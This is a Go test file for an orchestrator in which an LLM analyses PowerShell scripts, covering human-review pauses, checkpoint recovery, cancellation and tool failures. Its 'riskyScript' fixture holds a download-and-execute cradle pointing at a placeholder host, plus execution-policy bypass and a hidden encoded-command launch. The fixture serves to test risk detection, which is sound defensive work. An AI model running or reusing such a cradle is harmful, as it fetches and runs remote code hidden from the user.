package workflow

import (
	"bytes"
	"context"
	"encoding/json"
	"sync"
	"testing"
	"time"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/Morlock52/psscript-sub005/internal/checkpoint"
	"github.com/Morlock52/psscript-sub005/internal/events"
	"github.com/Morlock52/psscript-sub005/internal/llm"
	"github.com/Morlock52/psscript-sub005/internal/tool"
	"github.com/Morlock52/psscript-sub005/internal/tool/builtins"
	"github.com/Morlock52/psscript-sub005/internal/types"
)

const benignScript = `Get-Process | Sort-Object CPU -Descending`

const riskyScript = `$url = "http://example.invalid/payload.ps1"
Invoke-Expression (New-Object Net.WebClient).DownloadString($url)
Set-ExecutionPolicy Bypass -Scope Process
Start-Process powershell -WindowStyle Hidden -EncodedCommand $cmd`

// fakeProvider returns scripted responses: each CompleteWithTools call pops
// the next response, Complete always returns the synthesis report.
type fakeProvider struct {
	mu            sync.Mutex
	toolResponses []*llm.CompletionResponse
	toolErr       error
	report        string
	completeErr   error

	toolCalls     int
	completeCalls int
	block         chan struct{}
}

func (f *fakeProvider) Name() string { return "fake" }

func (f *fakeProvider) Complete(ctx context.Context, req llm.CompletionRequest) (*llm.CompletionResponse, error) {
	f.mu.Lock()
	f.completeCalls++
	f.mu.Unlock()

	if f.completeErr != nil {
		return nil, f.completeErr
	}
	return &llm.CompletionResponse{
		Model:        req.Model,
		Content:      f.report,
		FinishReason: llm.FinishReasonStop,
	}, nil
}

func (f *fakeProvider) CompleteWithTools(ctx context.Context, req llm.CompletionRequest, tools []llm.ToolDef) (*llm.CompletionResponse, error) {
	if f.block != nil {
		select {
		case <-f.block:
		case <-ctx.Done():
			return nil, ctx.Err()
		}
	}

	f.mu.Lock()
	defer f.mu.Unlock()
	f.toolCalls++

	if f.toolErr != nil {
		return nil, f.toolErr
	}
	if len(f.toolResponses) == 0 {
		return &llm.CompletionResponse{
			Content:      "analysis complete",
			FinishReason: llm.FinishReasonStop,
		}, nil
	}
	resp := f.toolResponses[0]
	f.toolResponses = f.toolResponses[1:]
	return resp, nil
}

func (f *fakeProvider) Health(ctx context.Context) types.HealthStatus {
	return types.Healthy("fake")
}

func toolCallResponse(calls ...llm.ToolCall) *llm.CompletionResponse {
	return &llm.CompletionResponse{
		ToolCalls:    calls,
		FinishReason: llm.FinishReasonToolCalls,
	}
}

func allToolsResponse() *llm.CompletionResponse {
	return toolCallResponse(
		llm.ToolCall{ID: "c1", Name: "analyze_script", Arguments: "{}"},
		llm.ToolCall{ID: "c2", Name: "security_scan", Arguments: "{}"},
		llm.ToolCall{ID: "c3", Name: "quality_analysis", Arguments: "{}"},
		llm.ToolCall{ID: "c4", Name: "generate_optimizations", Arguments: "{}"},
	)
}

type testHarness struct {
	orchestrator *Orchestrator
	store        *checkpoint.MemoryStore
	bus          *events.DefaultBus
	provider     *fakeProvider
}

func newTestHarness(t *testing.T, provider *fakeProvider, opts ...OrchestratorOption) *testHarness {
	t.Helper()

	registry := tool.NewRegistry()
	require.NoError(t, builtins.RegisterBuiltinTools(registry))

	store := checkpoint.NewMemoryStore(24 * time.Hour)
	bus := events.NewBus()
	t.Cleanup(func() { bus.Close() })

	client := llm.NewClient(provider, llm.WithMaxRetries(0))
	orchestrator := NewOrchestrator(client, tool.NewExecutor(registry), registry, store, bus, opts...)

	return &testHarness{
		orchestrator: orchestrator,
		store:        store,
		bus:          bus,
		provider:     provider,
	}
}

func drainEvents(ch <-chan events.AnalysisEvent) []events.AnalysisEvent {
	var collected []events.AnalysisEvent
	for event := range ch {
		collected = append(collected, event)
	}
	return collected
}

func TestStartRejectsEmptyScript(t *testing.T) {
	h := newTestHarness(t, &fakeProvider{})

	_, err := h.orchestrator.Start(context.Background(), StartOptions{})
	require.Error(t, err)
	assert.Equal(t, types.VALIDATION_FAILED, types.CodeOf(err))
}

func TestBenignScriptCompletes(t *testing.T) {
	provider := &fakeProvider{
		toolResponses: []*llm.CompletionResponse{allToolsResponse()},
		report:        "The script lists processes. No security concerns.",
	}
	h := newTestHarness(t, provider)

	ch, cleanup := h.bus.Subscribe("bench")
	defer cleanup()

	state, err := h.orchestrator.Start(context.Background(), StartOptions{
		ScriptContent: benignScript,
		ThreadID:      "bench",
	})
	require.NoError(t, err)

	assert.Equal(t, StatusCompleted, state.Status)
	assert.Empty(t, state.SecurityFindings)
	assert.Zero(t, state.RiskScore)
	assert.False(t, state.RequiresHumanReview)
	assert.Equal(t, provider.report, state.FinalReport)
	assert.NotNil(t, state.CompletedAt)
	assert.Len(t, state.ToolResults, 4)
	for _, te := range state.ToolResults {
		assert.Equal(t, ToolCompleted, te.Status, "tool %s", te.Name)
	}

	collected := drainEvents(ch)
	terminal := 0
	for i, event := range collected {
		if event.Type.Terminal() {
			terminal++
			assert.Equal(t, len(collected)-1, i, "terminal event must be last")
		}
	}
	assert.Equal(t, 1, terminal)
}

func TestResumeNonPausedThreadRejectedWithoutMutation(t *testing.T) {
	provider := &fakeProvider{report: "done"}
	h := newTestHarness(t, provider)

	ctx := context.Background()
	state, err := h.orchestrator.Start(ctx, StartOptions{
		ScriptContent: benignScript,
		ThreadID:      "t-complete",
	})
	require.NoError(t, err)
	require.Equal(t, StatusCompleted, state.Status)

	before, err := h.store.Load(ctx, "t-complete")
	require.NoError(t, err)

	_, err = h.orchestrator.Resume(ctx, "t-complete", "looks fine")
	require.Error(t, err)
	assert.Equal(t, types.STATE_INVALID, types.CodeOf(err))

	after, err := h.store.Load(ctx, "t-complete")
	require.NoError(t, err)
	assert.True(t, bytes.Equal(before.State, after.State), "checkpoint must be untouched")
}

func TestResumeUnknownThread(t *testing.T) {
	h := newTestHarness(t, &fakeProvider{})

	_, err := h.orchestrator.Resume(context.Background(), "missing", "feedback")
	require.Error(t, err)
	assert.Equal(t, types.STATE_NOT_FOUND, types.CodeOf(err))
}

func TestHighRiskScriptPausesAndResumes(t *testing.T) {
	provider := &fakeProvider{
		toolResponses: []*llm.CompletionResponse{
			toolCallResponse(llm.ToolCall{ID: "c1", Name: "security_scan", Arguments: "{}"}),
		},
		report: "Final report after review.",
	}
	h := newTestHarness(t, provider)

	ch, cleanup := h.bus.Subscribe("risky")
	defer cleanup()

	ctx := context.Background()
	state, err := h.orchestrator.Start(ctx, StartOptions{
		ScriptContent: riskyScript,
		ThreadID:      "risky",
	})
	require.NoError(t, err)

	require.Equal(t, StatusPaused, state.Status)
	assert.Equal(t, StageHumanReview, state.CurrentStage)
	assert.True(t, state.RequiresHumanReview)
	assert.Greater(t, state.RiskScore, 20)
	assert.NotEmpty(t, state.SecurityFindings)

	resumed, err := h.orchestrator.Resume(ctx, "risky", "Approved with caution")
	require.NoError(t, err)
	assert.Equal(t, StatusCompleted, resumed.Status)
	assert.Equal(t, []string{"Approved with caution"}, resumed.FeedbackHistory)
	assert.Equal(t, provider.report, resumed.FinalReport)
	assert.NotEqual(t, state.WorkflowID, resumed.WorkflowID)

	collected := drainEvents(ch)
	reviewEvents := 0
	terminal := 0
	for _, event := range collected {
		switch event.Type {
		case events.EventHumanReviewRequired:
			reviewEvents++
		case events.EventCompleted, events.EventError:
			terminal++
		}
	}
	assert.Equal(t, 1, reviewEvents, "exactly one human_review_required event")
	assert.Equal(t, 1, terminal)
}

func TestExplicitReviewRequestPauses(t *testing.T) {
	provider := &fakeProvider{
		toolResponses: []*llm.CompletionResponse{allToolsResponse()},
		report:        "report",
	}
	h := newTestHarness(t, provider)

	state, err := h.orchestrator.Start(context.Background(), StartOptions{
		ScriptContent:      benignScript,
		ThreadID:           "explicit",
		RequireHumanReview: true,
	})
	require.NoError(t, err)
	assert.Equal(t, StatusPaused, state.Status)
	assert.Zero(t, state.RiskScore)
	assert.True(t, state.RequiresHumanReview)
}

func TestExplicitReviewPausesWithoutToolCalls(t *testing.T) {
	// The model answers directly without ever requesting tools; the caller's
	// review request must still route through HUMAN_REVIEW.
	h := newTestHarness(t, &fakeProvider{report: "report"})

	state, err := h.orchestrator.Start(context.Background(), StartOptions{
		ScriptContent:      benignScript,
		ThreadID:           "direct-review",
		RequireHumanReview: true,
	})
	require.NoError(t, err)
	assert.Equal(t, StatusPaused, state.Status)
	assert.Equal(t, StageHumanReview, state.CurrentStage)
	assert.True(t, state.RequiresHumanReview)

	resumed, err := h.orchestrator.Resume(context.Background(), "direct-review", "ship it")
	require.NoError(t, err)
	assert.Equal(t, StatusCompleted, resumed.Status)
}

func checkpointState(t *testing.T, store checkpoint.Store, state *WorkflowState) {
	t.Helper()
	data, err := json.Marshal(state)
	require.NoError(t, err)
	require.NoError(t, store.Save(context.Background(), checkpoint.Snapshot{
		ThreadID:   state.ThreadID,
		WorkflowID: string(state.WorkflowID),
		Status:     string(state.Status),
		Stage:      string(state.CurrentStage),
		State:      data,
	}))
}

func TestStartRecoversInterruptedDispatch(t *testing.T) {
	h := newTestHarness(t, &fakeProvider{report: "report"})

	completed := time.Now().UTC()
	state := NewWorkflowState("crashed", benignScript)
	state.Status = StatusRunning
	state.CurrentStage = StageToolDispatch
	state.RecordToolExecution(ToolExecution{
		Name:        "quality_analysis",
		CallID:      "c3",
		Status:      ToolCompleted,
		StartedAt:   completed,
		CompletedAt: &completed,
		Result:      map[string]any{"quality_score": 9.9},
	})
	state.PendingToolCalls = []PendingToolCall{
		{CallID: "c3", Name: "quality_analysis"},
		{CallID: "c2", Name: "analyze_script"},
	}
	checkpointState(t, h.store, state)

	final, err := h.orchestrator.Start(context.Background(), StartOptions{
		ScriptContent: benignScript,
		ThreadID:      "crashed",
	})
	require.NoError(t, err)
	require.Equal(t, StatusCompleted, final.Status)
	assert.NotEqual(t, state.WorkflowID, final.WorkflowID)

	// The invocation completed before the crash is preserved verbatim.
	qa, ok := final.ToolResult("quality_analysis")
	require.True(t, ok)
	assert.Equal(t, "c3", qa.CallID)
	assert.Equal(t, map[string]any{"quality_score": 9.9}, qa.Result)

	as, ok := final.ToolResult("analyze_script")
	require.True(t, ok)
	assert.Equal(t, ToolCompleted, as.Status)
}

func TestStartOnPausedThreadRejected(t *testing.T) {
	provider := &fakeProvider{
		toolResponses: []*llm.CompletionResponse{
			toolCallResponse(llm.ToolCall{ID: "c1", Name: "security_scan", Arguments: "{}"}),
		},
	}
	h := newTestHarness(t, provider)

	state, err := h.orchestrator.Start(context.Background(), StartOptions{
		ScriptContent: riskyScript,
		ThreadID:      "held",
	})
	require.NoError(t, err)
	require.Equal(t, StatusPaused, state.Status)

	_, err = h.orchestrator.Start(context.Background(), StartOptions{
		ScriptContent: riskyScript,
		ThreadID:      "held",
	})
	require.Error(t, err)
	assert.Equal(t, types.STATE_INVALID, types.CodeOf(err))
	assert.False(t, h.orchestrator.Running("held"), "run lock must be released on rejection")
}

func TestStartOnCompletedThreadStartsFresh(t *testing.T) {
	provider := &fakeProvider{report: "done"}
	h := newTestHarness(t, provider)

	ctx := context.Background()
	first, err := h.orchestrator.Start(ctx, StartOptions{
		ScriptContent: benignScript,
		ThreadID:      "again",
	})
	require.NoError(t, err)
	require.Equal(t, StatusCompleted, first.Status)

	second, err := h.orchestrator.Start(ctx, StartOptions{
		ScriptContent: benignScript,
		ThreadID:      "again",
	})
	require.NoError(t, err)
	assert.Equal(t, StatusCompleted, second.Status)
	assert.NotEqual(t, first.WorkflowID, second.WorkflowID)
}

func TestCredentialExposureDetected(t *testing.T) {
	provider := &fakeProvider{
		toolResponses: []*llm.CompletionResponse{
			toolCallResponse(llm.ToolCall{ID: "c1", Name: "security_scan", Arguments: "{}"}),
		},
		report: "report",
	}
	h := newTestHarness(t, provider)

	state, err := h.orchestrator.Start(context.Background(), StartOptions{
		ScriptContent: `$password = "hunter2"` + "\nGet-Process",
		ThreadID:      "creds",
	})
	require.NoError(t, err)

	found := false
	for _, f := range state.SecurityFindings {
		if f.Category == "credential_exposure" && f.Severity >= 7 {
			found = true
		}
	}
	assert.True(t, found, "expected a credential_exposure finding with severity >= 7, got %+v", state.SecurityFindings)
}

func TestFailedToolDoesNotAbortStage(t *testing.T) {
	provider := &fakeProvider{
		toolResponses: []*llm.CompletionResponse{
			toolCallResponse(
				llm.ToolCall{ID: "c1", Name: "no_such_tool", Arguments: "{}"},
				llm.ToolCall{ID: "c2", Name: "quality_analysis", Arguments: "{}"},
			),
		},
		report: "report",
	}
	h := newTestHarness(t, provider)

	state, err := h.orchestrator.Start(context.Background(), StartOptions{
		ScriptContent: benignScript,
		ThreadID:      "partial",
	})
	require.NoError(t, err)
	require.Equal(t, StatusCompleted, state.Status)

	failed, ok := state.ToolResult("no_such_tool")
	require.True(t, ok)
	assert.Equal(t, ToolFailed, failed.Status)
	assert.NotEmpty(t, failed.Error)

	succeeded, ok := state.ToolResult("quality_analysis")
	require.True(t, ok)
	assert.Equal(t, ToolCompleted, succeeded.Status)
}

func TestDuplicateToolCallsDeduplicated(t *testing.T) {
	provider := &fakeProvider{
		toolResponses: []*llm.CompletionResponse{
			toolCallResponse(
				llm.ToolCall{ID: "c1", Name: "quality_analysis", Arguments: "{}"},
				llm.ToolCall{ID: "c2", Name: "quality_analysis", Arguments: `{"quality_metrics":"ignored"}`},
			),
		},
		report: "report",
	}
	h := newTestHarness(t, provider)

	state, err := h.orchestrator.Start(context.Background(), StartOptions{
		ScriptContent: benignScript,
		ThreadID:      "dup",
	})
	require.NoError(t, err)

	count := 0
	for _, te := range state.ToolResults {
		if te.Name == "quality_analysis" {
			count++
			assert.Equal(t, "c1", te.CallID, "first occurrence's arguments win")
		}
	}
	assert.Equal(t, 1, count)
}

func TestModelFailureMovesWorkflowToFailed(t *testing.T) {
	provider := &fakeProvider{
		toolErr: types.NewRetryableError(types.MODEL_PROVIDER_UNAVAILABLE, "connection refused"),
	}
	h := newTestHarness(t, provider)

	ch, cleanup := h.bus.Subscribe("failing")
	defer cleanup()

	state, err := h.orchestrator.Start(context.Background(), StartOptions{
		ScriptContent: benignScript,
		ThreadID:      "failing",
	})
	require.NoError(t, err)

	assert.Equal(t, StatusFailed, state.Status)
	assert.Equal(t, string(types.MODEL_RETRIES_EXHAUSTED), state.FailureCode)

	collected := drainEvents(ch)
	last := collected[len(collected)-1]
	assert.Equal(t, events.EventError, last.Type)
	assert.Equal(t, string(types.MODEL_RETRIES_EXHAUSTED), last.Payload["code"])
}

func TestAnalysisIterationLimit(t *testing.T) {
	provider := &fakeProvider{
		toolResponses: []*llm.CompletionResponse{
			toolCallResponse(llm.ToolCall{ID: "c1", Name: "analyze_script", Arguments: "{}"}),
			toolCallResponse(llm.ToolCall{ID: "c2", Name: "quality_analysis", Arguments: "{}"}),
			toolCallResponse(llm.ToolCall{ID: "c3", Name: "security_scan", Arguments: "{}"}),
		},
	}
	h := newTestHarness(t, provider, WithMaxIterations(2))

	state, err := h.orchestrator.Start(context.Background(), StartOptions{
		ScriptContent: benignScript,
		ThreadID:      "loop",
	})
	require.NoError(t, err)

	assert.Equal(t, StatusFailed, state.Status)
	assert.Equal(t, string(types.MODEL_RESPONSE_INVALID), state.FailureCode)
}

func TestConcurrentStartOnSameThreadRejected(t *testing.T) {
	block := make(chan struct{})
	provider := &fakeProvider{block: block, report: "report"}
	h := newTestHarness(t, provider)

	_, err := h.orchestrator.StartAsync(StartOptions{
		ScriptContent: benignScript,
		ThreadID:      "live",
	})
	require.NoError(t, err)

	_, err = h.orchestrator.Start(context.Background(), StartOptions{
		ScriptContent: benignScript,
		ThreadID:      "live",
	})
	require.Error(t, err)
	assert.Equal(t, types.STATE_ALREADY_LIVE, types.CodeOf(err))

	close(block)
	require.Eventually(t, func() bool {
		return !h.orchestrator.Running("live")
	}, 5*time.Second, 10*time.Millisecond)
}

func TestCancelRunningWorkflow(t *testing.T) {
	block := make(chan struct{})
	defer close(block)
	provider := &fakeProvider{block: block}
	h := newTestHarness(t, provider)

	_, err := h.orchestrator.StartAsync(StartOptions{
		ScriptContent: benignScript,
		ThreadID:      "cancel-me",
	})
	require.NoError(t, err)

	require.Eventually(t, func() bool {
		return h.orchestrator.Running("cancel-me")
	}, 5*time.Second, 10*time.Millisecond)

	require.NoError(t, h.orchestrator.Cancel("cancel-me"))

	require.Eventually(t, func() bool {
		state, err := h.orchestrator.Status(context.Background(), "cancel-me")
		return err == nil && state.Status == StatusFailed
	}, 5*time.Second, 10*time.Millisecond)

	state, err := h.orchestrator.Status(context.Background(), "cancel-me")
	require.NoError(t, err)
	assert.Equal(t, string(types.WORKFLOW_CANCELLED), state.FailureCode)
	assert.Equal(t, "cancelled", state.FailureReason)
}

func TestCancelIdleThread(t *testing.T) {
	h := newTestHarness(t, &fakeProvider{})

	err := h.orchestrator.Cancel("nobody")
	require.Error(t, err)
	assert.Equal(t, types.STATE_INVALID, types.CodeOf(err))
}

func TestResumeExpiredCheckpoint(t *testing.T) {
	provider := &fakeProvider{}
	registry := tool.NewRegistry()
	require.NoError(t, builtins.RegisterBuiltinTools(registry))
	store := checkpoint.NewMemoryStore(time.Hour)
	bus := events.NewBus()
	defer bus.Close()
	orchestrator := NewOrchestrator(llm.NewClient(provider), tool.NewExecutor(registry), registry, store, bus)

	stale := NewWorkflowState("stale", benignScript)
	stale.Status = StatusPaused
	stale.CurrentStage = StageHumanReview
	data, err := json.Marshal(stale)
	require.NoError(t, err)
	require.NoError(t, store.Save(context.Background(), checkpoint.Snapshot{
		ThreadID:   "stale",
		WorkflowID: string(stale.WorkflowID),
		Status:     string(stale.Status),
		Stage:      string(stale.CurrentStage),
		State:      data,
		UpdatedAt:  time.Now().UTC().Add(-2 * time.Hour),
	}))

	_, err = orchestrator.Resume(context.Background(), "stale", "feedback")
	require.Error(t, err)
	assert.Equal(t, types.STATE_EXPIRED, types.CodeOf(err))
}

func TestDispatchSkipsCheckpointedCompletions(t *testing.T) {
	h := newTestHarness(t, &fakeProvider{report: "report"})

	completed := time.Now().UTC()
	state := NewWorkflowState("crash-resume", benignScript)
	state.Status = StatusRunning
	state.CurrentStage = StageToolDispatch
	state.RecordToolExecution(ToolExecution{
		Name:        "quality_analysis",
		CallID:      "c1",
		Status:      ToolCompleted,
		StartedAt:   completed,
		CompletedAt: &completed,
		Result:      map[string]any{"quality_score": 5.0},
	})
	state.PendingToolCalls = []PendingToolCall{
		{CallID: "c1", Name: "quality_analysis"},
		{CallID: "c2", Name: "analyze_script"},
	}

	done := h.orchestrator.dispatch(context.Background(), state)
	require.Nil(t, done)

	// The checkpointed completion is untouched, only the unfinished call ran.
	qa, ok := state.ToolResult("quality_analysis")
	require.True(t, ok)
	assert.Equal(t, map[string]any{"quality_score": 5.0}, qa.Result)

	as, ok := state.ToolResult("analyze_script")
	require.True(t, ok)
	assert.Equal(t, ToolCompleted, as.Status)
	assert.Empty(t, state.PendingToolCalls)
}

func TestFeedbackGateValidation(t *testing.T) {
	h := newTestHarness(t, &fakeProvider{})
	gate := NewFeedbackGate(h.orchestrator, nil)

	_, err := gate.Submit(context.Background(), "t", "")
	require.Error(t, err)
	assert.Equal(t, types.VALIDATION_FAILED, types.CodeOf(err))

	_, err = gate.Submit(context.Background(), "", "feedback")
	require.Error(t, err)
	assert.Equal(t, types.VALIDATION_FAILED, types.CodeOf(err))
}

func TestStatusIndependentOfEventStream(t *testing.T) {
	provider := &fakeProvider{report: "done"}
	h := newTestHarness(t, provider)

	// No subscriber ever attaches; the final status must still be pollable.
	_, err := h.orchestrator.Start(context.Background(), StartOptions{
		ScriptContent: benignScript,
		ThreadID:      "headless",
	})
	require.NoError(t, err)

	state, err := h.orchestrator.Status(context.Background(), "headless")
	require.NoError(t, err)
	assert.Equal(t, StatusCompleted, state.Status)
	assert.Equal(t, "done", state.FinalReport)
}
